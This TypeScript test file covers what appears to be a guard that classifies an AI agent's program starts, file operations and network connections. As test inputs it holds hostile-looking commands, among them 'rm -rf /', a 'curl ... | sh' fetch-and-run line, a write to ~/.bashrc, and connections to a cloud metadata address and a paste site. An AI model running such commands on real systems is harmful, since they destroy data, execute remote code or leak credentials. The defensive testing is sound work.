import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import type { ActionId, SessionId } from '../../../electron/core/brand.ts';
import { unseenByParts } from '../../../electron/core/parts.ts';
import { nodeHasher } from '../../../electron/edge/hasher.ts';
import { loadKnowledge } from '../../../electron/edge/knowledge-dir.ts';
import { buildExecAction, startsOf } from '../../../electron/wire/exec-action.ts';
import { buildFileAction } from '../../../electron/wire/file-action.ts';
import type { ExecQuestion, FileOperation } from '../../../electron/wire/guard-message.ts';
import { buildConnectAction } from '../../../electron/wire/network-action.ts';
import { exactly, type Octets, readOctets } from '../../../electron/wire/octets.ts';

const loaded = loadKnowledge(join(import.meta.dirname, '../../../resources/knowledge'));
assert.ok(loaded.ok);
const knowledge = loaded.value;

const base = {
  id: 'act_00000000' as ActionId,
  sessionId: 'sess_00000000' as SessionId,
  at: 0,
  place: { cwd: null, home: '/home/ada', workspace: '/w', user: 'ada' },
  own: ['/var/csn'],
  by: exactly('/usr/bin/x'),
  modifiedFrom: null,
};

function start(program: string, called: string, argv: readonly string[], more: Partial<ExecQuestion> = {}) {
  const question: ExecQuestion = {
    kind: 'exec',
    asker: { pid: 1, program: exactly('/usr/bin/bash'), scope: null },
    program: exactly(program),
    called: exactly(called),
    argv: argv.map(exactly),
    cwd: '/w',
    script: null,
    writable: false,
    interactive: false,
    ...more,
  };
  const built = buildExecAction(
    { ...base, question, writable: ['/w', '/tmp'], script: null },
    knowledge,
    nodeHasher,
  );
  assert.ok(built.ok);
  return built.value;
}

const words = (action: ReturnType<typeof start>) => action.parameters.argv;

const NAMES: readonly [string, ReturnType<typeof start>, readonly string[]][] = [
  [
    'an installed program is called by its name',
    start('/usr/bin/git', '/usr/bin/git', ['git', 'push']),
    ['git', 'push'],
  ],
  [
    'a link among installed programs is its name',
    start('/usr/bin/python3.11', '/usr/bin/python3', ['python3', '-V']),
    ['python3', '-V'],
  ],
  ['argv[0] is not believed', start('/usr/bin/rm', '/usr/bin/rm', ['ls', '-rf', '/']), ['rm', '-rf', '/']],
  [
    'a link of the agent’s own is not believed',
    start('/usr/bin/rm', '/w/ls', ['./ls', '-rf', '/']),
    ['rm', '-rf', '/'],
  ],
  [
    'a program that does what its name says is what argv[0] says',
    start('/bin/busybox', '/bin/busybox', ['rm', '-rf', '/']),
    ['rm', '-rf', '/'],
  ],
  [
    'a program with an applet as its word keeps both',
    start('/bin/busybox', '/bin/busybox', ['busybox', 'rm', 'x']),
    ['busybox', 'rm', 'x'],
  ],
  [
    'a program in the workspace is its path',
    start('/w/git', '/w/git', ['git', 'push'], { writable: true }),
    ['/w/git', 'push'],
  ],
  [
    'an installed script that is known is the program',
    start('/usr/bin/node', '/usr/bin/npm', ['/usr/bin/node', '/usr/bin/npm', 'publish'], {
      script: exactly('/usr/lib/node_modules/npm/bin/npm-cli.js'),
    }),
    ['npm', 'publish'],
  ],
  [
    'a script of the workspace is its interpreter’s word',
    start('/usr/bin/node', '/w/npm', ['/usr/bin/node', '/w/npm', 'publish'], {
      script: exactly('/w/npm'),
      writable: true,
    }),
    ['node', '/w/npm', 'publish'],
  ],
];
for (const [name, action, expected] of NAMES) test(name, () => assert.deepEqual(words(action), expected));

test('a program that is told another known name keeps a gap', () => {
  assert.equal(start('/usr/bin/vim', '/usr/bin/vim', ['git', 'push']).gaps.length, 1);
  assert.deepEqual(start('/usr/bin/bash', '/usr/bin/bash', ['-bash']).gaps, []);
  assert.deepEqual(start('/usr/bin/vim', '/usr/bin/vim', ['whatever']).gaps, []);
});

test('words that are not text are a gap and part of the digest', () => {
  const bytes: Octets = readOctets(Uint8Array.of(0xff));
  const odd = start('/usr/bin/rm', '/usr/bin/rm', [], { argv: [exactly('rm'), bytes] });
  const plain = start('/usr/bin/rm', '/usr/bin/rm', ['rm', '\\xff']);
  assert.equal(odd.gaps.length, 1);
  assert.notEqual(odd.digest, plain.digest);
});

test('a start may be known to a line by its paths and never by argv[0]', () => {
  const question = {
    kind: 'exec',
    asker: { pid: 1, program: exactly('/bin/sh'), scope: null },
    program: exactly('/w/bin/tool'),
    called: exactly('/w/bin/tool'),
    argv: [exactly('git'), exactly('x')],
    cwd: '/w',
    script: null,
    writable: true,
    interactive: false,
  } as const;
  assert.deepEqual(startsOf(question), [
    ['/w/bin/tool', 'x'],
    ['./bin/tool', 'x'],
    ['bin/tool', 'x'],
  ]);
});

test('what a shell does by itself or with several commands is not left to the commands', () => {
  const shell = (line: string) => start('/usr/bin/bash', '/usr/bin/bash', ['bash', '-c', line]);
  const unseen = (line: string) => unseenByParts(shell(line)).map((e) => `${e.kind} ${e.object.value}`);
  assert.ok(shell('git push --force').partsFollow);
  assert.deepEqual(unseen('git push --force origin main'), []);
  assert.deepEqual(unseen('echo x > /home/ada/.bashrc'), ['write /home/ada/.bashrc']);
  assert.ok(unseen('curl http://x.example/i | sh').length > 0);
  assert.ok(!start('/usr/bin/python3', '/usr/bin/python3', ['python3', '-c', 'x']).partsFollow);
});

const file = (operation: FileOperation | 'read', path: string, more: object = {}) =>
  buildFileAction(
    {
      ...base,
      operation,
      path: exactly(path),
      destination: null,
      flags: null,
      veiled: [],
      byContent: () => false,
      ...more,
    },
    knowledge.paths,
    nodeHasher,
  );
const effects = (action: ReturnType<typeof file>) =>
  action.effects.map((e) => `${e.kind} ${e.object.value} ${e.tags.join(',')} ${e.reversible}`);

const FILES: readonly [string, ReturnType<typeof file>, readonly string[]][] = [
  [
    'opening to replace says so',
    file('write', '/w/a', { flags: 0o1101 }),
    ['write /w/a create,truncate unknown'],
  ],
  ['deleting cannot be undone', file('delete', '/w/a'), ['delete /w/a  no']],
  [
    'moving changes both places',
    file('rename', '/w/a', { destination: exactly('/w/b') }),
    ['move /w/a  yes', 'write /w/b replace unknown'],
  ],
  [
    'a hard link makes the old file writable',
    file('link', '/home/ada/.bashrc', { destination: exactly('/w/b') }),
    ['write /home/ada/.bashrc link unknown', 'write /w/b create,link yes'],
  ],
  [
    'a mode says what it gives',
    file('mode', '/w/a', { flags: 0o4755 }),
    ['permission /w/a setuid,executable yes'],
  ],
  ['what is ours is ours wherever it lies', file('delete', '/var/csn/x'), ['delete /var/csn/x self no']],
  [
    'a veiled file is a secret whatever it is called',
    file('read', '/home/ada/mine', { veiled: ['/home/ada/mine'] }),
    ['read /home/ada/mine secret yes'],
  ],
  [
    'what is public in a folder of credentials is none',
    file('read', '/home/ada/.ssh/known_hosts', { veiled: ['/home/ada/.ssh'] }),
    ['read /home/ada/.ssh/known_hosts  yes'],
  ],
];
for (const [name, action, expected] of FILES) test(name, () => assert.deepEqual(effects(action), expected));

test('a name that is not text never has the digest of the name it looks like', () => {
  const odd = file('delete', '/w/x', { path: readOctets(Uint8Array.of(0x2f, 0x77, 0x2f, 0xff)) });
  assert.notEqual(odd.digest, file('delete', '/w/\\xff').digest);
});

test('a connection carries the labels of its host, and a socket those of its path', () => {
  const connect = (to: Parameters<typeof buildConnectAction>[0]['to']) =>
    buildConnectAction({ ...base, to }, knowledge, nodeHasher).effects[0]?.object;
  assert.ok(connect({ kind: 'tcp', host: '169.254.169.254', port: 80 })?.labels.includes('metadata'));
  assert.ok(connect({ kind: 'tcp', host: 'paste.rs', port: 443 })?.labels.includes('paste-site'));
  assert.ok(connect({ kind: 'tcp', host: '::1', port: 1 })?.labels.includes('loopback'));
  const docker = connect({ kind: 'unix', path: exactly('/run/docker.sock') });
  assert.ok(docker?.labels.includes('container-socket'));
});
